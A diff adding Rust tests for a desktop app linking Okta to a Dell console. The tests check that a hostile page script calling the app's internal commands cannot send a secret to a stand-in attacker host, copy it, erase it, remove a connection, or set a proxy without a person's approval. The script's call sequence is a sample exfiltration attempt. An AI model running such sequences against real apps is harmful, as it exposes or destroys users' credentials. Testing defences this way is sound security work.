@@ -1,0 +1,156 @@
+//! The page turned hostile: a script in the real window calls the app's own commands. It gains nothing, for what moves
+//! a secret or destroys something is asked outside the page, or paid for with input that only a hand can give.
+
+use serde_json::{Value, json};
+
+use crate::harness::{Home, PATIENCE, Sandbox, Window, desktop, desktop_alone, until};
+use crate::looks::Eye;
+use crate::walk::hands::Panel;
+use crate::walk::{self, PRACTICE_HOST};
+
+/// The attacker's cloud, in the only names that practice reaches.
+const EVIL: &str = "other.dell.practice";
+
+/// Calls each of these in turn, waiting a moment for each answer; answers what each came to.
+const SCRIPT: &str = "
+    const [calls, done] = arguments;
+    const call = window.__TAURI_INTERNALS__.invoke;
+    (async () => {
+        const came = [];
+        for (const [name, given] of calls) {
+            const answer = call(name, given).then(() => 'done', (problem) => problem?.code ?? String(problem));
+            const late = new Promise((resolve) => setTimeout(() => resolve('waits'), 1500));
+            came.push([name, await Promise.race([answer, late])]);
+        }
+        done(came);
+    })();";
+
+fn calls(window: &Window, calls: &Value) -> Vec<(String, String)> {
+    serde_json::from_value(window.run_later(SCRIPT, &[calls.clone()])).expect("a list")
+}
+
+/// No question is on the screen that nobody answered.
+fn unasked(window: &Window) {
+    assert_eq!(desktop::question_of(window.app()), None);
+}
+
+#[test]
+fn it_sends_no_secret_to_a_host_of_its_own() {
+    let _desktop = desktop_alone();
+    let home = Home::new().practice();
+    let sandbox = Sandbox::start(&home);
+    let window = Window::open(&home);
+    walk::begin_practice(&window);
+    walk::to_done_by_console(&window, &sandbox, &Panel, PRACTICE_HOST, "practice-console");
+    walk::done_keeping(&window);
+    let id = window.view()["screen"]["rows"][0]["id"].as_str().expect("a connection").to_owned();
+    let secret = desktop::secret("okta-dell-connect-practice");
+
+    // The whole chain of the trial, in one breath.
+    let paths =
+        json!({ "domains": "/okta/v1/domains", "tasks": "/okta/v1/tasks", "key_management": "/okta/v1/keymanagement" });
+    let given = json!({ "kind": "form", "name": "Dell", "api_base": format!("https://{EVIL}"), "token_path": "/token",
+        "console_address": "", "paths": paths });
+    let came = calls(
+        &window,
+        &json!([
+            ["open_connection", { "id": id }],
+            ["console_said", { "outcome": "domain_refused", "by": "Ada Example" }],
+            ["add_environment", { "given": given }],
+            ["choose_dell", { "environment": "added-0", "account": "Acme" }],
+            ["copy_text", { "text": "made-up-key-of-the-attacker-0123456789" }],
+            ["take_dell_key", { "clientId": "attacker" }],
+            ["try_dell_key", { "clientId": "attacker" }],
+            ["authorize", {}],
+            ["send_again", {}],
+            ["copy_value", { "what": "secret" }],
+            ["erase_secret", {}],
+            ["remove_connection", { "id": id }],
+        ]),
+    );
+    let of = |name: &str| came.iter().find(|(called, _)| called == name).map(|(_, came)| came.as_str());
+    assert_eq!(of("add_environment"), Some("waits"), "{came:?}");
+    for refused in ["copy_value", "erase_secret", "remove_connection"] {
+        assert_eq!(of(refused), Some("declined"), "while one question is open, another is a no: {came:?}");
+    }
+    // The question names the host, outside the page; nobody agrees.
+    let mut eye = Eye::new(&window, "hostile");
+    eye.look("asked");
+    let asked = window.decline();
+    assert!(asked.contains("Dell"), "{asked}");
+    window.idle();
+    unasked(&window);
+
+    let added = window.view()["screen"]["environments"].to_string();
+    assert!(!added.contains(EVIL), "{added}");
+    let reached: Vec<Value> = sandbox.trace().into_iter().filter(|asked| asked.to_string().contains(EVIL)).collect();
+    assert_eq!(reached, [json!(null); 0], "requests to the attacker's server");
+    assert_eq!(desktop::secret("okta-dell-connect-practice"), secret, "it is here, and the same");
+    assert_ne!(desktop::clipboard(), secret);
+}
+
+#[test]
+fn it_copies_no_secret_without_a_hand_and_a_hand_pays_once() {
+    let _desktop = desktop_alone();
+    let home = Home::new().practice();
+    let sandbox = Sandbox::start(&home);
+    let window = Window::open(&home);
+    walk::begin_practice(&window);
+    walk::ready(&window);
+    walk::organisation(&window, PRACTICE_HOST, "practice-console");
+    walk::permissions(&window);
+    walk::install(&window, &Panel);
+    let secret = walk::secret(&window, &sandbox, &Panel);
+    walk::client_id(&window, &Panel);
+    walk::prove(&window);
+    walk::dell_console(&window);
+    let copy = json!([["copy_value", { "what": "secret" }]]);
+
+    // A call, and a click that a script makes: both are asked about.
+    assert_eq!(calls(&window, &copy), [("copy_value".to_owned(), "waits".to_owned())]);
+    assert!(window.decline().contains(PRACTICE_HOST));
+    window.idle();
+    window.run("document.querySelector('[data-act=copy-value][data-value=secret]').click()", &[]);
+    window.decline();
+    window.idle();
+    assert_ne!(desktop::clipboard(), secret);
+    assert!(!window.has("[data-problem]"), "a no is no problem");
+
+    // A hand on the mouse is not asked, and pays for one copy.
+    window.press_act_on("copy-value", "secret");
+    until("the secret is in the clipboard", PATIENCE, || (desktop::clipboard() == secret).then_some(()));
+    unasked(&window);
+    desktop::set_clipboard("something else");
+    assert_eq!(calls(&window, &copy), [("copy_value".to_owned(), "waits".to_owned())]);
+    window.decline();
+    window.idle();
+    assert_eq!(desktop::clipboard(), "something else");
+
+    // Where a screen reader presses the button, no event is seen: the person is asked, and may agree.
+    window.run("document.querySelector('[data-act=copy-value][data-value=secret]').click()", &[]);
+    window.agree();
+    until("the secret is in the clipboard", PATIENCE, || (desktop::clipboard() == secret).then_some(()));
+}
+
+#[test]
+fn it_erases_and_removes_nothing() {
+    let _desktop = desktop_alone();
+    let home = Home::new().practice();
+    let sandbox = Sandbox::start(&home);
+    let window = Window::open(&home);
+    walk::begin_practice(&window);
+    walk::to_done_by_console(&window, &sandbox, &Panel, PRACTICE_HOST, "practice-console");
+    let id = window.view()["screen"]["id"].as_str().expect("a connection").to_owned();
+    for (name, given) in [("erase_secret", json!({})), ("remove_connection", json!({ "id": id }))] {
+        assert_eq!(calls(&window, &json!([[name, given]])), [(name.to_owned(), "waits".to_owned())]);
+        assert!(window.decline().contains(PRACTICE_HOST), "{name} names the org");
+        window.idle();
+    }
+    assert_eq!(desktop::secrets("okta-dell-connect-practice"), 1);
+    assert_eq!(window.view()["screen"]["id"], json!(id));
+
+    // A proxy would see every connection.
+    let proxy = json!([["choose_proxy", { "choice": "http://127.0.0.1:9" }]]);
+    assert_eq!(calls(&window, &proxy), [("choose_proxy".to_owned(), "waits".to_owned())]);
+    assert!(window.decline().contains("127.0.0.1:9"));
+}
